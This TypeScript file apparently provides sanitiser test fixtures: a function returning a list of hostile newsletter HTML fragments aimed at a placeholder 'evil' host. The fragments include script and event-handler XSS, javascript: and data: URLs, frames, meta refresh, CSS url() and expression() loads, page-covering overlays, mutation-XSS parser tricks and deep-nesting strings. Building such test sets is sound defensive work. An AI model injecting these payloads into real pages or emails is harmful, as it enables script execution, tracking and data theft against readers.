/**
 * Pieces of a newsletter that try to run, load, open, send or cover something. Each of them would
 * ask for `/evil…` or run `evil()` if it got its way.
 */
export function hostilePieces(evil: string): readonly string[] {
  return [
    // Scripts and handlers.
    `<script>evil()</script><script src="${evil}/script.js"></script>`,
    `<img src="${evil}/img.png" onerror="evil()"><body onload="evil()"><p onclick="evil()" onmouseover=evil()>x</p>`,
    `<svg onload="evil()"><script>evil()</script><image href="${evil}/svg.png"/><use href="${evil}/use.svg#x"/><animate attributeName=href values="javascript:evil()"/></svg>`,
    `<math><mtext><img src="${evil}/math.png" onerror="evil()"></mtext><maction actiontype="statusline#" xlink:href="javascript:evil()">x</maction></math>`,
    `<details open ontoggle="evil()">x</details><marquee onstart="evil()">x</marquee><video src="${evil}/v.mp4" autoplay onerror="evil()"></video>`,
    `<a href="javascript:evil()">js</a><a href="data:text/html,<script>evil()</script>">data</a><a href="vbscript:evil()">vb</a>`,
    // Other documents, and other places for this one.
    `<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>evil()</script>"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">`,
    `<frameset><frame src="${evil}/frameset"></frameset>`,
    `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/" target="_top">`,
    `<link rel="stylesheet" href="${evil}/style.css"><link rel="prefetch" href="${evil}/prefetch"><link rel="dns-prefetch" href="${evil}/">`,
    `<form action="${evil}/form" method="post"><input name="x" value="y" autofocus onfocus="evil()"><button formaction="${evil}/button">Go</button></form>`,
    // Styles.
    `<style>@import "${evil}/import.css"; body { background: url(${evil}/body.png) } @font-face { font-family: x; src: url(${evil}/font) }</style>`,
    `<p style="background:url(${evil}/url.png)">x</p><p style="background:u\\72l(${evil}/escape.png)">x</p><p style="width:expression(evil())">x</p>`,
    `<p style="list-style:url(${evil}/list.png);content:url(${evil}/content.png);cursor:url(${evil}/cursor),auto;border-image:url(${evil}/border)">x</p>`,
    `<p style="background-image:image-set('${evil}/set.png' 1x);filter:url(${evil}/filter.svg#x);mask:url(${evil}/mask)">x</p>`,
    `<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">cover</p><p style="color:red}body{display:none">x</p>`,
    `<table background="${evil}/background.png"><tr><td background="${evil}/td.png">x</td></tr></table>`,
    `<p style="--x:url(${evil}/var.png);background:var(--x)">x</p><p style='font-family:"</style><script>evil()</script>"'>x</p>`,
    // What parsers read in different ways.
    `<noscript><p title="</noscript><img src=${evil}/noscript.png onerror=evil()>"></noscript>`,
    `<svg></p><style><a id="</style><img src=${evil}/mxss1.png onerror=evil()>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${evil}/mxss2.png onerror=evil()&gt;">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=${evil}/mxss3.png onerror=evil()>">`,
    `<p title="x\`><img src=${evil}/backtick.png onerror=evil()>"><!--><img src=${evil}/comment.png onerror=evil()>--><!--[if gte IE 4]><script>evil()</script><![endif]-->`,
    `<title><img src=${evil}/title.png onerror=evil()></title><textarea><img src=${evil}/t.png onerror=evil()></textarea><xmp><img src=${evil}/xmp.png></xmp>`,
    `<select><style><img src=${evil}/select.png onerror=evil()></style></select><template><img src=${evil}/template.png onerror=evil()></template>`,
    `&lt;script&gt;evil()&lt;/script&gt;<p>&amp;lt;img src=x onerror=evil()&amp;gt;</p>`,
    `<img srcset="${evil}/srcset.png 1x" src="x"><picture><source srcset="${evil}/source.png"></picture><audio src="${evil}/a.mp3"></audio>`,
    // Tags that nothing closes, and elements by the thousand.
    `<b><i><u><font color=red><a name=x><table><tr><td><div><p title="unclosed`,
    `"></p>${'<table><tr><td>'.repeat(300)}deep`,
    `${'</td></tr></table>'.repeat(300)}<table>${'<tr><td colspan=1000 rowspan=65534>x</td></tr>'.repeat(500)}</table>`,
    `<xss-evil is="x" slot=y part=z style="color:red">x</xss-evil><plaintext><script>evil()</script>`,
  ];
}
